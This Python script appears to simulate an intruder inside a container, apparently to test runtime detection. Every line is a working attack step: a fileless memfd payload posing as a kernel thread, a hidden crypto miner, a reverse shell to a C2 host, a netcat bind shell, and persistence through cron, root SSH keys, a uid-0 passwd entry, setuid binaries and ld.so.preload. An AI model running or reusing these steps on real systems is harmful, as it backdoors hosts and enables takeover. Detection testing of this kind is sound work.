# What somebody does who got into a pod, each of it once. The payload (payload.c) only waits.
import base64, os, shutil, socket, subprocess, sys

PAYLOAD = base64.b64decode(os.environ.pop("PAYLOAD"))
QUIET = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}


def write(path, data, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(data if isinstance(data, bytes) else data.encode())
    os.chmod(path, mode)


def start(args, **more):
    return subprocess.Popen(args, start_new_session=True, **{**QUIET, **more})


# A program that has never been in a file, called like a thread of the kernel.
memory = os.memfd_create("payload")
os.write(memory, PAYLOAD)
start(["[kworker/u8:1]"], executable=f"/proc/self/fd/{memory}", pass_fds=[memory])
os.close(memory)

# A miner whose file is gone.
write("/tmp/.cache/xmrig", PAYLOAD, 0o755)
start(["xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet", "--password=hunter2-miner"], executable="/tmp/.cache/xmrig")
os.unlink("/tmp/.cache/xmrig")

# A program of its own under the name of another, with memory that is writable and executable.
write("/usr/lib/agent", PAYLOAD, 0o755)
start(["/usr/sbin/sshd", "w"], executable="/usr/lib/agent", env={"LD_PRELOAD": "/tmp/.cache/hook.so"})

# One in a temporary place, with code that no file has; one with a library from there, an executable stack, and the name of a tracer.
write("/dev/shm/run", PAYLOAD, 0o755)
start(["/dev/shm/run", "a"])
write("/tmp/hook.so", PAYLOAD)
start(["agent", "m", "/tmp/hook.so"], executable="/usr/lib/agent")
write("/data/strace", PAYLOAD, 0o755)
outside = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
outside.connect(("203.0.113.7", 53))
start(["/data/strace", "s"], pass_fds=[outside.fileno()])
outside.close()

# A reverse shell.
connection = socket.create_connection((os.environ["C2"], 4444))
subprocess.Popen(["sh", "-i"], stdin=connection, stdout=connection, stderr=connection, start_new_session=True, env={"PATH": "/bin", "HISTFILE": "/dev/null"})

# Somebody who waits for a call.
start(["nc", "-l", "-p", "31337", "-e", "sh"])

# What makes it stay.
write("/etc/cron.d/update", "* * * * * root /usr/lib/agent\n")
write("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExample me@away\n", 0o600)
write("/usr/bin/.ping", PAYLOAD, 0o4755)
write("/etc/profile.d/update.sh", "/usr/lib/agent &\n")
write("/etc/ssl/private/web.pem", "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIB\n" * 8 + "-----END PRIVATE KEY-----\n", 0o600)
write("/root/.aws/credentials", "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n", 0o600)
with open("/etc/passwd", "a") as file:
    file.write("service:x:0:0::/:/bin/sh\n")
try:
    os.mknod("/data/disk", 0o600 | 0o060000, os.makedev(8, 0))
except OSError as error:
    print("mknod:", error, file=sys.stderr)
write("/etc/ld.so.preload", "/tmp/hook.so\n")
print("done", flush=True)
